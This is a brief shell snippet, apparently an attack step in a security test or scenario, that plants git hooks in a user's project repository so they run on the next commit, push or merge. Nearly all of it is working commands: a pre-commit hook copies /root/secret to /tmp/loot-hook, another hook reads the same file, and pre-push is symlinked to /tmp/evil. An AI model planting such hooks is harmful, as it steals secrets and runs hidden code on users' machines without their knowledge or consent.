# what: plant a git hook in the project's repository (run by the user's next git commit)
echo 'cat /root/secret >/tmp/loot-hook' >"$P/.git/hooks/pre-commit"
chmod 755 "$P/.git/hooks/pre-commit"
echo 'cat /root/secret' >>"$P/.git/hooks/post-commit"
ln -s /tmp/evil "$P/.git/hooks/pre-push"
mv "$P/.git/hooks/post-commit" "$P/.git/hooks/post-merge"
